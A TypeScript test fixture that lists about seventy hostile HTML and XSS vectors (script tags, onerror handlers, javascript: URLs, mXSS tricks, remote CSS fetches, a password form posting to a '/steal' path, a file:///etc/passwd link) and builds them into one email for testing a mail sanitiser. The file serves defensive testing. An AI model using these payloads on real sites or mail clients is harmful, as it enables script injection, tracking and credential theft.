/**
 * Hostile HTML for tests of the sanitiser and the viewer (docs/security.md H1): vectors after the
 * DOMPurify fixtures, Cure53 H5SC, the OWASP filter-evasion cheat sheet and the Roundcube CVEs,
 * written as our own cases. `remote` is the origin every vector would fetch from, so a test can
 * serve it and see that nothing was requested.
 */
export function xssVectors(remote: string): Array<[name: string, markup: string]> {
  return [
    ['script', '<script>alert(1)</script>'],
    ['script in head', '<head><script>alert(1)</script></head>'],
    ['img onerror', '<img src=x onerror=alert(1)>'],
    ['img onerror no quotes', '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>'],
    ['javascript href', '<a href="javascript:alert(1)">x</a>'],
    ['javascript href entity', '<a href="jav&#x09;ascript:alert(1)">x</a>'],
    ['javascript href colon entity', '<a href="javascript&colon;alert(1)">x</a>'],
    ['javascript href upper', '<a href=" JaVaScRiPt:alert(1)">x</a>'],
    ['vbscript', '<a href="vbscript:msgbox(1)">x</a>'],
    ['data text/html link', '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>'],
    ['file link', '<a href="file:///etc/passwd">x</a>'],
    ['meta refresh', `<meta http-equiv="refresh" content="0;url=${remote}/refresh">`],
    ['meta refresh javascript', '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">'],
    ['base', `<base href="${remote}/"><a href="/x">x</a>`],
    ['form', `<form action="${remote}/steal"><input name=p type=password><button>go</button></form>`],
    ['formaction', '<button formaction="javascript:alert(1)">x</button>'],
    ['iframe', `<iframe src="${remote}/frame"></iframe>`],
    ['iframe srcdoc', '<iframe srcdoc="<script>alert(1)</script>"></iframe>'],
    ['object', `<object data="${remote}/x.swf"></object>`],
    ['embed', `<embed src="${remote}/x.swf">`],
    ['svg script', '<svg><script>alert(1)</script></svg>'],
    ['svg onload', '<svg onload=alert(1)></svg>'],
    ['svg animate href', '<svg><a><animate attributeName=href values=javascript:alert(1) /><text x=20 y=20>X</text></a></svg>'],
    ['svg set href ns', '<svg><a xlink:href="#"><set attributeName="xlink:href" to="javascript:alert(1)"/></a></svg>'],
    [
      'svg use',
      '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><image href=1 onerror=alert(1) /></svg>#x"/></svg>',
    ],
    ['mXSS noscript', '<noscript><p title="</noscript><img src=x onerror=alert(1)>">'],
    ['mXSS svg style', '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">'],
    ['details ontoggle', '<details open ontoggle=alert(1)></details>'],
    ['body onload', '<body onload=alert(1)>'],
    ['div onmouseover', '<div onmouseover="alert(1)" onclick="alert(1)">hover</div>'],
    ['video poster', `<video poster="${remote}/p.png"><source src=x onerror=alert(1)></video>`],
    ['link stylesheet', `<link rel=stylesheet href="${remote}/x.css">`],
    ['style import', `<style>@import url(${remote}/x.css); p{color:red}</style>`],
    ['style import string', `<style>@import "${remote}/y.css";</style>`],
    ['style remote url', `<style>body{background:url("${remote}/t.png")}</style>`],
    ['style attr remote url', `<div style="background-image:url(${remote}/t.png)">x</div>`],
    ['style attr css escape', `<div style="background:\\75 rl(${remote}/t.png)">x</div>`],
    ['style attr escaped letters', `<div style="background:u\\rl(${remote}/t.png)">x</div>`],
    ['style image-set', `<div style="background-image:image-set('${remote}/t.png' 1x)">x</div>`],
    ['style expression', '<div style="width:expression(alert(1))">x</div>'],
    ['td background', `<table><tr><td background="${remote}/t.png">x</td></tr></table>`],
    ['img srcset', `<img srcset="${remote}/t.png 1x">`],
    ['img relative src', `<img src="/api/image-proxy?url=${remote}/t.png">`],
    ['img protocol-relative src', `<img src="${remote.replace(/^https?:/, '')}/t.png">`],
    ['data svg image', '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">'],
    ['input image', `<input type=image src="${remote}/t.png">`],
    ['a ping', `<a href="https://ok.example" ping="${remote}/ping">x</a>`],
    ['target top', '<a href="https://ok.example" target="_top">x</a>'],
    ['relative link', '<a href="/api/account/1/alias/1/message/1">x</a>'],
    ['protocol-relative link', '<a href="//evil.example/">x</a>'],
    ['area', '<map><area href="javascript:alert(1)"></map>'],
    ['namespace attr', '<p xmlns:x="http://www.w3.org/1999/xlink" x:href="javascript:alert(1)">x</p>'],
    ['dom clobbering', '<form id=x><input id=y></form><img name=body>'],
    ['template', '<template><script>alert(1)</script></template>'],
    ['closed comment trick', '<!--<img src=x onerror=alert(1)>--!><img src=x onerror=alert(2)>'],
    ['CDATA', '<![CDATA[<script>alert(1)</script>]]>'],
    ['nested quotes', '<img """><script>alert(1)</script>">'],
    ['tracking pixel', `<img src="${remote}/p.gif" width="1" height="1">`],
    // Left open: each takes the rest of the document with it unless the sanitiser releases it. They
    // come last and in this order, since none of them may be closed by a later vector's end tag.
    ['unclosed xmp', '<xmp>'],
    ['unclosed noembed', '<noembed>'],
    ['unclosed iframe', `<iframe src="${remote}/open">`],
    ['unclosed noscript', '<noscript>'],
    ['unclosed textarea', '<textarea>'],
    ['unclosed title', '<title>'],
    ['unclosed style', '<style>'],
    ['unclosed select', '<select><option>'],
    ['unclosed svg', '<svg><g>'],
    ['unclosed math', '<math><mi>'],
    ['unclosed template', '<template>'],
    ['unclosed script', '<script>alert(1)//'],
    ['unclosed math mglyph style', '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>'],
    ['unclosed comment', '<!--'],
    ['unclosed plaintext', '<plaintext>'],
  ];
}

export interface InterleavedMail {
  html: string;
  /** What must stay visible: the text of every ordinary paragraph and table cell, and every link. */
  paragraphs: string[];
  cells: string[];
  links: Array<{ text: string; href: string }>;
}

/** A whole HTML mail with every vector followed by an ordinary paragraph, table and link. */
export function interleavedHostileMail(remote: string): InterleavedMail {
  const mail: InterleavedMail = { html: '', paragraphs: [], cells: [], links: [] };
  const parts = xssVectors(remote).map(([name, markup], i) => {
    const paragraph = `Ordinary paragraph ${i + 1} after ${name}.`;
    const cell = `Cell ${i + 1}`;
    const link = { text: `Link ${i + 1}`, href: `https://example.org/${i + 1}` };
    mail.paragraphs.push(paragraph);
    mail.cells.push(cell);
    mail.links.push(link);
    return `${markup}\n<p>${paragraph}</p>\n<table><tr><td>${cell}</td></tr></table>\n<p><a href="${link.href}">${link.text}</a></p>\n`;
  });
  mail.html = `<!doctype html><html><head><title>Offers</title></head><body>\n<h1>Hostile and ordinary</h1>\n${parts.join('')}</body></html>`;
  return mail;
}
